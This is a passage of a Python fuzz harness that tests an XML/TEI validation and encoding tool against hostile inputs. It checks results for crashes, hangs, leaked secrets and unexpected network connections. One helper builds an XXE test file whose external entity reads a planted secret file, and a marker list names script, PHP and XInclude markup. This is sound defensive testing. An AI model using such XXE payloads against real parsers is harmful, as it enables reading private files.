        solo_configs = jing_configs[:1] if self.scale == "quick" else jing_configs
        for config in configs:
            self.validate_library(config, [c for c in cases if not c.heavy])
            self.validate_alone(config, heavy + (doctypes if config in solo_configs else []))
        self.log(f"library validate done ({time.perf_counter() - started:.0f} s)")
        self.schemas_library(schemas)
        self.encode_library(sources)
        self.log(f"library schemas and encode done ({time.perf_counter() - started:.0f} s)")
        self.validate_cli(cases, configs)
        self.schemas_cli(schemas)
        self.encode_cli(sources)
        self.connections("after the round", None, cls="late-connection")
        self.result.seconds += time.perf_counter() - started
        return self.result

    def configs(self) -> list[Config]:
        folder = self.work / "schemas" / "benign"
        folder.mkdir(parents=True, exist_ok=True)
        files = {
            "benign.rng": RNG.format(prolog="", grammar_attrs="", include="", value=""),
            "benign.rnc": RNC.format(include="", external=""),
            "benign.xsd": XSD.format(prolog="", schema_attrs="", include="", enum=""),
            "benign.sch": SCH.format(binding="xslt", top="", checks=""),
        }
        for name, text in files.items():
            (folder / name).write_text(text, encoding="utf-8")
        configs = [Config("builtin", (), True)]
        if self.jing:
            configs.append(Config("benign.rng (jing)", (str(folder / "benign.rng"),), engine="jing"))
        configs.append(Config("benign.rng (lxml)", (str(folder / "benign.rng"),), engine="lxml"))
        if self.jing:
            configs.append(Config("benign.rnc", (str(folder / "benign.rnc"),)))
        configs.append(Config("benign.xsd", (str(folder / "benign.xsd"),)))
        configs.append(Config("builtin + benign.sch", (str(folder / "benign.sch"),), True))
        if self.jing and TEI_ALL_RNG.is_file():
            configs.append(Config("tei_all.rng", (str(TEI_ALL_RNG),), engine="jing"))
        return configs

    def _write(self, case: Case) -> None:
        folder = self.inputs / case.key if case.own_folder else self.inputs
        folder.mkdir(parents=True, exist_ok=True)
        path = os.path.join(os.fsencode(folder), case.name)
        with open(path, "wb") as stream:
            stream.write(case.data)
        case.path = os.path.normpath(os.fsdecode(path))

    def _write_schema(self, schema: SchemaCase) -> None:
        folder = self.work / "schemas" / schema.key  # alone: an XSD reads its neighbours
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in schema.files.items():
            (folder / name).write_bytes(data)
        schema.path = str(folder / next(iter(schema.files)))

    def _write_source(self, source: SourceCase) -> None:
        folder = self.work / "sources" / source.key
        folder.mkdir(parents=True, exist_ok=True)
        path = os.path.join(os.fsencode(folder), source.name)
        with open(path, "wb") as stream:
            stream.write(source.data)
        source.path = os.fsdecode(path)

    # -- validate, in-process --------------------------------------------------------------

    def _job(self, config: Config, paths: Sequence[str]) -> dict[str, Any]:
        return {"paths": list(paths), "schemas": list(config.schemas), "builtin": config.builtin,
                "register": str(REGISTER), "engine": config.engine, "cache": str(self.cache)}

    def _validate_once(self, config: Config, cases: Sequence[Case]) -> Outcome:
        self.result.runs["library validate runs"] += 1
        timeout = BATCH_TIMEOUT if len(cases) > 1 else CALL_TIMEOUT
        (outcome,) = isolated(validate_job, [self._job(config, [c.path for c in cases])], timeout)
        self.timed(f"validate {config.name} of {len(cases)} files (library)", outcome.seconds,
                   cases[0] if len(cases) == 1 else None)
        return outcome

    def validate_library(self, config: Config, cases: list[Case]) -> None:
        """One validate_paths call over the whole batch; when the run as a whole fails, the
        inputs that cause it are found by halving, reported, and the rest checked without them."""
        where = f"validate {config.name} (library)"
        remaining = list(cases)
        for _ in range(3):
            outcome = self._validate_once(config, remaining)
            self.connections(where, None)
            if outcome.status == "ok":
                self._check_batch(where, remaining, outcome)
                return

            def probe(part: list[Case]) -> str | None:
                found = self._validate_once(config, part)
                self.listener.take()  # already reported by the run of the whole batch
                return None if found.status == "ok" else found.describe()

            culprits = halve(remaining, probe, [40])
            if not culprits:
                self.fail(None, where, f"the batch of {len(remaining)} files fails, no part of "
                          f"it does: {outcome.describe()}", cls=f"batch {config.name}")
                return
            for culprit, problem in culprits:
                self.fail(culprit, where, "one input makes the whole run fail: " + problem)
            named = {id(c) for c, _ in culprits}
            remaining = [c for c in remaining if id(c) not in named]
        self.fail(None, where, "the batch still fails without the inputs found",
                  cls=f"batch {config.name}")

    def validate_alone(self, config: Config, cases: list[Case]) -> None:
        """Inputs one call each: for big and deep ones a hang then costs one timeout and names
        its input."""
        where = f"validate {config.name} (library, alone)"
        self.result.runs["library validate runs"] += len(cases)
        outcomes = isolated(validate_job, [self._job(config, [c.path]) for c in cases],
                            CALL_TIMEOUT)
        for case, outcome in zip(cases, outcomes, strict=True):
            self.timed(where, outcome.seconds, case)
            if outcome.status != "ok":
                self.fail(case, where, outcome.describe())
            else:
                self._check_batch(where, [case], outcome)
        self.connections(where, None)

    def _check_batch(self, where: str, cases: list[Case], outcome: Outcome) -> None:
        value = outcome.value
        by_path = {c.path: c for c in cases}
        files = dict(value["files"])
        leaks = False
        for case in cases:
            issues = files.get(case.path)
            if issues is None:
                self.fail(case, where, "missing from the report")
                continue
            self._check_verdict(case, where, issues)
            for issue in issues:
                leaked = self.harm(issue["message"])
                if leaked:
                    leaks = True
                    self.fail(case, where, f"{leaked} in an issue: {issue['message'][:300]!r}")
                    break
        batch = f"batch {where.split(' (')[0].removeprefix('validate ')}"
        if len(files) != len(cases):
            self.fail(None, where, f"{len(files)} files in the report for {len(cases)} inputs",
                      cls=batch)
        leaked = self.harm(outcome.output)
        if leaked:
            self.fail(None, where, f"{leaked} on the process's stdout/stderr", cls=batch)
        for fmt, rendered in value["renders"].items():
            fwhere = f"{where}, --format {fmt}"
            if rendered["problems"]:
                culprits = [by_path[p] for p in rendered["culprits"] if p in by_path]
                if len(cases) == 1:
                    culprits = cases
                for case in culprits:
                    self.fail(case, fwhere, "; ".join(rendered["problems"]))
                if not culprits:
                    self.fail(None, fwhere, "; ".join(rendered["problems"]), cls=batch)
            leaked = self.harm(rendered["text"])
            if leaked and not leaks:
                self.fail(None, fwhere, f"{leaked} in the report", cls=batch)

    def _check_verdict(self, case: Case, where: str, issues: list[dict[str, Any]]) -> None:
        errors = [i for i in issues if i["severity"] == "error"]
        if case.verdict == VALID and errors:
            self.fail(case, where, "a valid control was reported invalid (one file changed "
                      f"another's verdict?): {errors[0]['message'][:300]!r}")
        elif case.verdict == INVALID and not errors:
            self.fail(case, where, f"reported valid, but {case.why or 'it is not'}: it must never be")
        elif case.verdict == WARNED and not issues:
            self.fail(case, where, f"reported valid without a word, but {case.why}")
        elif case.verdict == MALFORMED and not any(i["layer"] == "well-formed" for i in errors):
            got = f"{errors[0]['rule']}: {errors[0]['message'][:200]!r}" if errors else "valid"
            self.fail(case, where, f"no well-formed error for a malformed file (got {got})")

    # -- hostile schemas, in-process -------------------------------------------------------

    def schema_inputs(self) -> list[Case]:
        """What hostile schemas check: the valid letter, a TEI whose @type no schema allows
        (so that messages list the allowed values) and one with an external entity."""
        folder = self.work / "schema-inputs"
        folder.mkdir(parents=True, exist_ok=True)
        xxe = (f'<?xml version="1.0"?>\n<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file://{self.secret.txt}">]>\n'
               + MINIMAL_TEI.format(type="fuzz").split("\n", 1)[1].replace("<p>The ", "<p>&xxe; The "))
        made = [Case("control", "-", b"control.xml", VALID_LETTER.read_bytes(), ANY),
                Case("schema-input", "-", b"mismatch.xml", MINIMAL_TEI.format(type="other").encode()),
                Case("schema-input", "-", b"xxe.xml", xxe.encode(), INVALID)]
        for case in made:
            (folder / case.name.decode()).write_bytes(case.data)
            case.path = str(folder / case.name.decode())
        return made

    def schemas_library(self, schemas: list[SchemaCase]) -> None:
        inputs = self.schema_inputs()
        for schema in schemas:
            engine = schema.engine if self.jing or schema.engine != "jing" else "lxml"
            where = f"validate --schema {schema.cls} ({engine}, library)"
            config = Config(schema.cls, (schema.path,), engine=engine)
            self.result.runs["library validate runs"] += 1
            (outcome,) = isolated(validate_job, [self._job(config, [c.path for c in inputs])],
                                  CALL_TIMEOUT)
            self.timed(where, outcome.seconds, schema)
            self._check_schema_outcome(schema, where, outcome, inputs)
            self.connections(where, schema)

    def _check_schema_outcome(self, schema: SchemaCase, where: str, outcome: Outcome,
                              inputs: list[Case]) -> None:
        if outcome.broken:
            self.fail(schema, where, outcome.describe())
            return
        leaked = self.harm(outcome.message) or self.harm(outcome.output)
        if leaked:
            self.fail(schema, where, f"{leaked} in the refusal or on stderr: {outcome.message[:300]!r}")
        if outcome.status == "refused":
            return
        files = dict(outcome.value["files"])
        for case in inputs:
            issues = files.get(case.path, [])
            if case.expect == INVALID and not any(i["severity"] == "error" for i in issues):
                self.fail(schema, where, f"{case.name.decode()} (an external entity) was "
                          "reported valid")
            for issue in issues:
                leaked = self.harm(issue["message"])
                if leaked:
                    self.fail(schema, where, f"{leaked} in an issue of {case.name.decode()}: "
                              f"{issue['message'][:300]!r}")
                    break
        for fmt, rendered in outcome.value["renders"].items():
            if rendered["problems"]:
                self.fail(schema, f"{where}, --format {fmt}", "; ".join(rendered["problems"]))

    # -- encode, in-process ----------------------------------------------------------------

    def encode_library(self, sources: list[SourceCase]) -> None:
        jobs = [{"source": s.path, "out": str(self.work / "encoded" / s.key), "kind": s.kind,
                 "register": str(ENCODE_REGISTER)} for s in sources]
        self.result.runs["library encode runs"] += len(jobs)
        outcomes = isolated(encode_job, jobs, CALL_TIMEOUT)
        for source, job, outcome in zip(sources, jobs, outcomes, strict=True):
            where = f"encode --kind {source.kind} (library)"
            self.timed(where, outcome.seconds, source)
            if outcome.broken:
                self.fail(source, where, outcome.describe())
                continue
            if outcome.status == "refused" and outcome.exit_code not in (1, 2):
                self.fail(source, where, f"refused with exit code {outcome.exit_code}")
            texts = [outcome.message, outcome.output]
            if outcome.status == "ok":
                texts += outcome.value["warnings"]
            for text in texts:
                leaked = self.harm(text)
                if leaked:
                    self.fail(source, where, f"{leaked} in a message: {text[:300]!r}")
                    break
            self._check_written(source, where, Path(job["out"]))
        self.connections("encode (library)", None)

    def _check_written(self, source: SourceCase, where: str, out: Path) -> None:
        """The TEI encode wrote: well-formed, nothing read, the source's markup kept as text."""
        from tei.xmlio import XmlProblem, parse_file

        written = sorted(out.rglob("*.xml")) if out.is_dir() else []
        texts: list[str] = []
        for path in written:
            data = path.read_bytes()
            leaked = self.secret.leaked(data)
            if leaked:
                self.fail(source, where, f"{leaked} in the written {path.name}")
            live = [m.decode() for m in LIVE_MARKUP if m in data]
            if live:
                self.fail(source, where, f"live markup {live} in the written {path.name}")
            try:
                tree = parse_file(path)
            except XmlProblem as problem:
                self.fail(source, where, f"wrote TEI that is not well-formed: {problem}")
                continue
            if path.name != "persons.xml":
                texts.append("".join(tree.getroot().itertext()))
        if texts and source.cls == "src-markup":
            joined = "".join("".join(texts).split())
            source_text = source.data.decode("utf-8", "replace")
            for marker in ("<script>", "<img", "#read(", "<xi:include", "<!DOCTYPE", "<?php"):
                if marker in source_text and marker not in joined:
                    self.fail(source, where, f"the source's text {marker!r} is not in the TEI's text")

    # -- the CLI ---------------------------------------------------------------------------

    def cli(self, args: Sequence[str | bytes], where: str, fmt: str = "text",
            output: Path | None = None) -> CliRun:
        """Run ``teitool ARGS`` and say what is wrong with what any call must do."""
        self.result.runs["CLI calls"] += 1
        env = {**os.environ, "TEITOOL_CACHE_DIR": str(self.cache)}
        command = [sys.executable, "-m", "tei", *args]
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   stdin=subprocess.DEVNULL, cwd=self.work, env=env,
                                   start_new_session=True)  # a timeout kills its JVMs too
        started = time.perf_counter()
        try:
            stdout, stderr = process.communicate(timeout=CALL_TIMEOUT)
            self.timed(where, time.perf_counter() - started)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(OSError):
                os.killpg(process.pid, signal.SIGKILL)
            process.communicate()
            return CliRun(None, [f"hang: no exit after {CALL_TIMEOUT:.0f} s"])
        done = subprocess.CompletedProcess(command, process.returncode, stdout, stderr)
        problems = []
        err = stderr.decode("utf-8", "replace")
        if "Traceback" in err:
            last = (err.strip().splitlines() or [""])[-1]
            problems.append(f"exit code {done.returncode} with a traceback: {last[:300]!r}")
        elif done.returncode not in (0, 1, 2):
            problems.append(f"exit code {done.returncode}: {err[-300:]!r}")
        report = output.read_bytes() if output is not None and output.is_file() else b""
        for name, text in (("stdout", stdout), ("stderr", stderr), ("the report file", report)):
            leaked = self.harm(text)
            if leaked:
                problems.append(f"{leaked} on {name}")
        # JSON escapes C0 itself; raw C1 in JSON is legal, and JSON is read by programs.
        streams = [("stderr", stderr)] + ([] if fmt in ("json", "sarif") else [("stdout", stdout)])
        for name, text in streams:
            decoded = text.decode("utf-8", "surrogateescape")
            raw = RAW_CONTROL.search(decoded)
            if raw:
                problems.append(f"raw control character U+{ord(raw.group()):04X} on {name}: "
                                f"{decoded[max(raw.start() - 60, 0):raw.end() + 20]!r}")
        return CliRun(done, problems)

    def _validate_args(self, paths: Sequence[str], config: Config, fmt: str,
                       output: Path | None = None) -> list[str | bytes]:
        args: list[str | bytes] = ["validate", *(os.fsencode(p) for p in paths), "--no-cache",
                                   "--format", fmt, "--register", str(REGISTER)]
        if not config.builtin:
            args.append("--no-builtin")
        for schema in config.schemas:
            args += ["--schema", schema]
        if output is not None:
            args += ["-o", str(output)]
        return args

    def validate_cli(self, cases: list[Case], configs: list[Config]) -> None:
        """Per format, one call over a sample that holds every hostile name (inputs that break
        it found by halving); then single calls, where the exit code is the verdict."""
        rng = self.rng
        named = [c for c in cases if c.cls == "hostile-name"]
        others = [c for c in cases if c.cls not in ("hostile-name", "control", "sentinel")
                  and not c.heavy]
        controls = [c for c in cases if c.cls in ("control", "sentinel")]
        per_call = 14 if self.scale == "quick" else 40
        offset = rng.randrange(len(configs))
        for n, fmt in enumerate(FORMATS):
            config = configs[(offset + n) % len(configs)]
            batch = named + rng.sample(others, min(per_call, len(others))) + controls
            output = self.work / "reports" / f"batch-{n}.{fmt}" if rng.random() < 0.5 else None
            if output is not None:
                output.parent.mkdir(exist_ok=True)
            where = f"cli validate --format {fmt}{' -o FILE' if output else ''} ({config.name})"
            call = self.cli(self._validate_args([c.path for c in batch], config, fmt, output),
                            where, fmt, output)
            self.connections(where, None)
            if not call.problems and call.done is not None and call.done.returncode in (0, 1):
                self._check_cli_batch(batch, fmt, call.done, output, where)
                continue

            def probe(part: list[Case], config: Config = config, fmt: str = fmt,
                      output: Path | None = output, where: str = where) -> str | None:
                found = self.cli(self._validate_args([c.path for c in part], config, fmt, output),
                                 where, fmt, output)
                self.listener.take()
                if found.problems:
                    return "; ".join(found.problems)
                if found.done is not None and found.done.returncode == 2:
                    return f"exit 2: {found.done.stderr.decode('utf-8', 'replace').strip()[:300]!r}"
                return None

            culprits = halve(batch, probe, [30])
            for case, problem in culprits:
                self.fail(case, where, problem)
            if not culprits:
                what = "; ".join(call.problems) or f"exit {call.done.returncode if call.done else '?'}"
                self.fail(None, where, f"the call over {len(batch)} files: {what}", cls="cli batch")
        known = [c for c in cases if c.verdict in (INVALID, MALFORMED) and not c.heavy]
        count = 10 if self.scale == "quick" else 30
        for case in rng.sample(known, min(len(known), count)) + controls[:1]:
            config, fmt = rng.choice(configs), rng.choice(FORMATS)
            where = f"cli validate --format {fmt} ({config.name}, alone)"
            call = self.cli(self._validate_args([case.path], config, fmt), where, fmt)
            self.connections(where, case)
            for problem in call.problems:
                self.fail(case, where, problem)
            code = call.done.returncode if call.done is not None else None
            if code is None or code not in (0, 1, 2):
                continue
            if case.verdict == VALID and code != 0:
                self.fail(case, where, f"a valid control exits {code}")
            elif case.verdict == INVALID and code == 0:
                self.fail(case, where, f"exit code 0 (valid), but {case.why}: it must never be")
            elif case.verdict == MALFORMED and code != 1:
                self.fail(case, where, f"exit code {code} for a malformed file, not 1")

    def _check_cli_batch(self, batch: list[Case], fmt: str, done: subprocess.CompletedProcess[bytes],
                         output: Path | None, where: str) -> None:
        if any(c.verdict in (INVALID, MALFORMED) for c in batch) and done.returncode != 1:
            self.fail(None, where, f"exit code {done.returncode} for a batch with invalid files",
                      cls="cli batch")
        if fmt != "json":
            return
        text = output.read_bytes() if output is not None else done.stdout
        try:
            data = json.loads(text)
        except ValueError as exc:
            self.fail(None, where, f"the JSON report does not parse: {exc}", cls="cli batch")
            return
        ordered = sorted(batch, key=lambda c: c.path)  # the report's order: sorted paths
        if len(data["files"]) != len(ordered):
            self.fail(None, where, f"{len(data['files'])} files in the report for {len(ordered)}",
                      cls="cli batch")
            return
        for case, entry in zip(ordered, data["files"], strict=True):
            self._check_verdict(case, where, entry["issues"])

    def schemas_cli(self, schemas: list[SchemaCase]) -> None:
        inputs = self.schema_inputs()
        count = len(schemas) if self.scale == "full" else min(len(schemas), 16)
        for schema in self.rng.sample(schemas, count):
            fmt = self.rng.choice(FORMATS)
            config = Config(schema.cls, (schema.path,))
            where = f"cli validate --schema {schema.cls} --format {fmt}"
            call = self.cli(self._validate_args([c.path for c in inputs], config, fmt), where, fmt)
            self.connections(where, schema)
            for problem in call.problems:
                self.fail(schema, where, problem)
            if call.done is not None and call.done.returncode == 2:
                lines = [line for line in call.done.stderr.decode("utf-8", "replace").splitlines()
                         if line.strip()]
                if len(lines) != 1 or not lines[0].startswith("teitool: "):
                    self.fail(schema, where, f"exit 2 without one clear line on stderr: {lines[:3]!r}")

    def encode_cli(self, sources: list[SourceCase]) -> None:
        count = 8 if self.scale == "quick" else 20
        for source in self.rng.sample(sources, min(count, len(sources))):
            out = self.work / "encoded-cli" / source.key
            where = f"cli encode --kind {source.kind}"
            call = self.cli(["encode", os.fsencode(source.path), "-o", str(out), "--kind",
                             source.kind, "--register", str(ENCODE_REGISTER), "-q"], where)
            self.connections(where, source)
            for problem in call.problems:
                self.fail(source, where, problem)
            if call.done is None:
                continue
            if call.done.returncode in (1, 2) and not call.done.stderr.strip():
                self.fail(source, where, f"exit {call.done.returncode} with nothing on stderr")
            self._check_written(source, where, out)


@contextlib.contextmanager
def environment() -> Iterator[tuple[Listener, Secret]]:
    """The listener and the secret for a fuzz session; removed afterwards."""
    secret = Secret.create()
    try:
        with Listener() as listener:
            yield listener, secret
    finally:
        secret.remove()


def run(seed: int, work: Path, *, seconds: float = 0.0, scale: str = "quick",
        log: Callable[[str], None] = lambda _: None) -> FuzzResult:
    """One round from ``seed``; with ``seconds``, further rounds (seed + 1, …) until they are up."""
    deadline = time.monotonic() + seconds
    result = FuzzResult([seed], work)
    with environment() as (listener, secret):
        current = seed
        while True:
            folder = work / f"round-{current}"
            folder.mkdir(parents=True, exist_ok=True)
            Harness(current, folder, listener, secret, scale=scale, log=log, result=result).run()
            log(f"seed {current} done: {len(result.failures)} failures so far, "
                f"{result.seconds:.0f} s")
            if time.monotonic() >= deadline:
                break
            current += 1
            result.seeds.append(current)
    return result
